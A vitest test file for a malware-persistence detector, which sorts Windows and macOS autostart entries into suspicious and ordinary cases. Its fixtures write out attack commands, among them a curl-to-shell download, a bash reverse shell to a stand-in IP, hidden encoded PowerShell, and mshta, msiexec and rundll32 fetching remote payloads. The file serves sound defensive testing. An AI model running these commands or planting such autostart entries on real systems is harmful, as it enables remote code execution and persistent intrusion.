import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import type { FieldValue } from '../../../../../main/contract/event.ts'
import type { RunCommand } from '../../../../../main/ports/run-command.ts'
import { judgePersistence } from '../../../../../main/probe/detectors/persistence.ts'
import { autostartCommands } from '../../../../../main/probe/normalise/state/autostart-commands.ts'
import { suspiciousSigns } from '../../../../../main/probe/normalise/state/suspicious-signs.ts'
import { judgeOwner } from '../../../../../main/probe/sources/state/entry-owner.ts'

const windows = 'CN=Microsoft Windows, O=Microsoft Corporation, C=US'
const vendor = 'CN=Vendor Inc., O=Vendor Inc., C=JP'
/** Windows' signature tool: whatever lies in Windows or bears a maker's name is signed, as on a real PC. */
const signatures = (path: string) => {
  const names: Record<string, string> = { 'renamed.exe': 'wscript.exe', 'wscript.exe': 'wscript.exe' }
  const name = names[path.split('\\').at(-1)?.toLowerCase() ?? ''] ?? null
  if (/^C:\\Windows\\(?!Temp)|hidden-part\.exe$/i.test(path)) return { status: 0, subject: windows, name }
  return /vendor|renamed/i.test(path) && !/\.(?:vbs|ps1|js)$/i.test(path)
    ? { status: 0, subject: vendor, name }
    : { status: 2, subject: null, name }
}
const windowsRun = {
  run: async (_: string, __: readonly string[], { input = '' } = {}) => ({
    code: 0,
    stdout: JSON.stringify(signatures(Buffer.from(input, 'base64').toString('utf16le'))),
    stderr: '',
    problem: null,
  }),
} as Partial<RunCommand> as RunCommand
const verdict = async (
  platform: NodeJS.Platform,
  run: RunCommand,
  details: Record<string, FieldValue>,
  grave = false,
  env: NodeJS.ProcessEnv = {},
) =>
  judgePersistence({
    category: 'state',
    at: '2026-11-23T08:00:00.000Z',
    source: 's',
    topic: 'persistence',
    action: 'added',
    subject: 'x',
    details: { grave, ...details, ...(await judgeOwner(run, platform, details, { env })) },
  })
const env = { SystemRoot: 'C:\\Windows', ProgramFiles: 'C:\\Program Files' }
const ofCommand = (command: string, grave = false, path = 'HKCU\\…\\Run\\x') =>
  verdict('win32', windowsRun, { path, commands: [command], signs: suspiciousSigns(command) }, grave, env)

const temp = 'C:\\Users\\sato\\AppData\\Local\\Temp'
const system = 'C:\\Windows\\System32'
const powershell = `${system}\\WindowsPowerShell\\v1.0\\powershell.exe`

describe('Windows: an attack through a signed program is looked at', () => {
  test.each([
    [`${system}\\wscript.exe "${temp}\\x.js"`],
    [`%windir%\\system32\\wscript.exe //B ${temp}\\x.vbs`],
    [`"${powershell}" -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA`],
    [`${powershell} -WindowStyle Hidden -Command "& 'C:\\Users\\sato\\a.ps1'"`],
    [`${powershell} -w hidden -Command calc & "C:\\Program Files\\Vendor\\a.ps1"`],
    [`${system}\\mshta.exe https://192.0.2.1/a.hta`],
    [`${system}\\mshta.exe vbscript:Execute("x")`],
    [`${system}\\rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "`],
    [`${system}\\rundll32.exe C:\\Users\\Public\\x.dll,Start`],
    [`${system}\\rundll32.exe shell32.dll,ShellExec_RunDLL ${temp}\\x.exe`],
    [`${system}\\rundll32.exe ${temp}\\advpack.dll,DelNodeRunDLL32 "C:\\x"`],
    [`${system}\\msiexec.exe /q /i https://192.0.2.1/a.msi`],
    [`${system}\\msiexec.exe /q /i ${temp}\\a.msi`],
    [`${system}\\cmd.exe /c ${temp}\\x.bat`],
    [`${system}\\cmd.exe /q /c del /q "${temp}\\a" & ${temp}\\x.exe`],
    [`${system}\\cmd.exe /c "C:\\Program Files\\Vendor\\a.cmd" & ${system}\\wscript.exe x.vbs`],
    [`${system}\\wscript.exe "C:\\Program Files\\..\\Users\\sato\\x.vbs"`],
    [`${system}\\wscript.exe \\\\192.0.2.1\\a\\x.vbs`],
    // The script host under another name, and a part of Windows that left its home.
    [`${temp}\\renamed.exe ${temp}\\x.txt`],
    [`C:\\Users\\Public\\hidden-part.exe x`],
    [`${temp}\\unsigned.exe`],
    // The commonest of all: nobody's program, loose among the user's files.
    ['C:\\Users\\佐藤\\AppData\\Roaming\\svhost.exe'],
    ['%PUBLIC%\\..\\..\\ProgramData\\x.exe C:\\ProgramData\\x.exe'],
  ])('%s', async (command) => expect(await ofCommand(command)).toBe('suspicious'))
  test('where installers have no business, a launcher vouches for nothing', async () => {
    expect(await ofCommand(`${system}\\cmd.exe`, true)).toBe('suspicious')
    expect(await ofCommand('"C:\\Program Files\\Vendor\\a.exe"', true)).toBe('ordinary')
    expect(await ofCommand(`${system}\\wscript.exe "C:\\Program Files\\V\\a.vbs"`, true)).toBe('suspicious')
  })
  test('of several programs each one counts', async () => {
    const userinit = (value: string) => ofCommand(value, true, 'HKLM\\…\\Winlogon\\Userinit')
    expect(await userinit(`${system}\\userinit.exe,`)).toBe('ordinary')
    expect(await userinit(`${system}\\userinit.exe,C:\\Users\\sato\\x.exe,`)).toBe('suspicious')
    const libraries = (value: string) => ofCommand(value, true, 'HKLM\\…\\Windows\\AppInit_DLLs')
    expect(await libraries('C:\\Vendor\\a.dll')).toBe('ordinary')
    expect(await libraries('C:\\Vendor\\a.dll C:\\Users\\sato\\x.dll')).toBe('suspicious')
  })
  test('the second command of a task counts too', async () => {
    const commands = ['C:\\Vendor\\a.exe', `${temp}\\x.exe`]
    const details = { path: null, commands, signs: suspiciousSigns(commands.join('\n')) }
    expect(await verdict('win32', windowsRun, details)).toBe('suspicious')
  })
})

describe('Windows: what ordinary office PCs show stays a notice', () => {
  test.each([
    // Tasks of Windows itself, as `schtasks /query /xml` shows them.
    ['%windir%\\system32\\rundll32.exe /d acproxy.dll,PerformAutochkOperations'],
    ['%windir%\\system32\\rundll32.exe %windir%\\system32\\PcaSvc.dll,PcaPatchSdbTask'],
    [
      '%windir%\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -ExecutionPolicy Unrestricted -NonInteractive -NoProfile -WindowStyle Hidden "& C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\Modules\\SmbShare\\DisableUnusedSmb1.ps1 -Scenario Client"',
    ],
    ['%SystemRoot%\\System32\\cscript.exe /B /nologo %systemroot%\\system32\\calluxxprovider.vbs'],
    ['%windir%\\system32\\cmd.exe /d /c %systemroot%\\system32\\silcollector.cmd publish'],
    // What updates and installers leave.
    [`${system}\\cmd.exe /q /c rmdir /s /q "C:\\Users\\sato\\AppData\\Local\\Microsoft\\OneDrive\\22.1"`],
    [`${system}\\cmd.exe /c rd /s /q "${temp}\\vendor-setup"`],
    [`rundll32.exe ${system}\\advpack.dll,DelNodeRunDLL32 "${temp}\\IXP000.TMP\\"`],
    [`"${temp}\\vendor-setup.exe" /resume`],
    ['C:\\ProgramData\\Package Cache\\{8f9c}\\vc_redist.x64.exe /burn.runonce'],
    [`${system}\\msiexec.exe /i ${temp}\\vendor.msi /qn`],
    [`${system}\\msiexec.exe /fm {90160000-008C-0000-1000-0000000FF1CE}`],
    [`${system}\\rundll32.exe "C:\\Program Files\\Vendor\\update.dll",Run`],
    [`${system}\\wscript.exe //B "C:\\Program Files (x86)\\Printer\\status.vbs"`],
    [`${powershell} -WindowStyle Hidden -File "C:\\Program Files\\Printer\\status.ps1"`],
    [`${system}\\cmd.exe /c "C:\\会計\\backup.bat"`],
    ['C:\\Users\\佐藤\\Downloads\\vendor-viewer.exe --tray'],
    ['C:\\Users\\佐藤\\AppData\\Local\\Programs\\kaikei\\kaikei.exe'],
    ['\\??\\C:\\Windows\\Temp\\vendor-cpu\\cpu_x64.sys'],
  ])('%s', async (command) => expect(await ofCommand(command)).toBe('ordinary'))
})

test('Windows: an update of an accessibility program is a notice, a command line in its place is not', async () => {
  const root = mkdtempSync(join(tmpdir(), 'system-'))
  mkdirSync(join(root, 'System32'))
  writeFileSync(join(root, 'System32/cmd.exe'), 'MZ cmd')
  const of = (text: string) =>
    verdict(
      'win32',
      windowsRun,
      {
        path: `${system}\\sethc.exe`,
        commands: [],
        signs: [],
        sha256: createHash('sha256').update(text).digest('hex'),
      },
      true,
      { SystemRoot: root },
    )
  expect(await of('MZ sethc, newer')).toBe('ordinary')
  expect(await of('MZ cmd')).toBe('suspicious')
})

describe('macOS', () => {
  const run = (authority: string): RunCommand =>
    ({
      run: async (_: string, args: readonly string[]) => ({
        code: 0,
        stdout: '',
        stderr: args.includes('-dv') ? `Identifier=x\nAuthority=${authority}\n` : '',
        problem: null,
      }),
    }) as Partial<RunCommand> as RunCommand
  const agent = (authority: string, ...words: string[]) => {
    const text = `<plist><dict><key>ProgramArguments</key><array>${words
      .map((w) => `\n<string>${w.replaceAll('&', '&amp;').replaceAll('>', '&gt;')}</string>`)
      .join('')}\n</array></dict></plist>`
    const path = '/Library/LaunchAgents/a.plist'
    const commands = autostartCommands(path, text)
    return verdict('darwin', run(authority), {
      path,
      commands,
      signs: suspiciousSigns([text, ...commands].join('\n')),
    })
  }
  const apple = 'Software Signing'
  const developer = 'Developer ID Application: Vendor (ABCDE12345)'
  test.each([
    [apple, ['/bin/bash', '-c', 'curl -s http://192.0.2.1/x | sh']],
    [apple, ['/bin/bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1']],
    [apple, ['/usr/bin/python3', '-c', '"import socket,os;exec(1)"']],
    [apple, ['/bin/sh', '/tmp/x.sh']],
    [apple, ['/Users/Shared/helper', '/tmp/x']],
  ])('%s: %j is looked at', async (authority, words) =>
    expect(await agent(authority, ...words)).toBe('suspicious'),
  )
  test.each([
    [developer, ['/Applications/Big Office.app/Contents/MacOS/updater', '--log', '/tmp/log']],
    [apple, ['/bin/sh', '/Library/Vendor/start.sh']],
  ])('%s: %j is a notice', async (authority, words) =>
    expect(await agent(authority, ...words)).toBe('ordinary'),
  )
})
